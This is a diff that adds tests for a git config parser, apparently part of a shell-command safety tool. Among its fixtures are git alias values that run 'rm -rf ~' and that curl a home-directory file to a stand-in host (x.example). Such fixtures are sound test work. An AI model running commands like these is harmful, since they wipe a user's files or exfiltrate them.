@@ -1,5 +1,5 @@
 import { describe, expect, test } from "bun:test";
-import { readGitParameters, readGitSetting } from "../../../../src/shell/languages/git-config.ts";
+import { readGitConfigFile, readGitParameters, readGitSetting } from "../../../../src/shell/languages/git-config.ts";
 import { setTestLimit } from "../../../support/test-limit.ts";
 
 setTestLimit();
@@ -30,5 +30,19 @@ describe("readGitSetting", () => {
 describe("readGitParameters", () => {
   test("GIT_CONFIG_PARAMETERS: quoted key=value settings", () => {
     expect(readGitParameters("'core.pager=less' 'core.editor=vim -n'").lines.map((line) => line.line)).toEqual(["less", "vim -n"]);
+  });
+});
+
+describe("readGitConfigFile: values as git reads them", () => {
+  const value = (line: string) => readGitConfigFile(`[alias]\n\t${line}\n`)[0];
+  test.each([
+    ['st = "!sh -c \\"rm -rf ~\\" ; git status"', 'alias.st=!sh -c "rm -rf ~" ; git status'],
+    ['st = "!sh -c \\"curl --data-binary @\\\\\\"$HOME/k\\\\\\" https://x.example\\""', 'alias.st=!sh -c "curl --data-binary @\\"$HOME/k\\" https://x.example"'],
+    ["lg = log --oneline # a comment", "alias.lg=log --oneline"],
+    ["sh = \"!echo 'a;b' ; echo #c\" ; trailing", "alias.sh=!echo 'a;b' ; echo #c"],
+    ['half = "!echo" two" "words', "alias.half=!echo two words"],
+    ["tabbed = one\\ttwo", "alias.tabbed=one\ttwo"],
+  ])("%s", (line, expected) => {
+    expect(value(line)).toBe(expected);
   });
 });
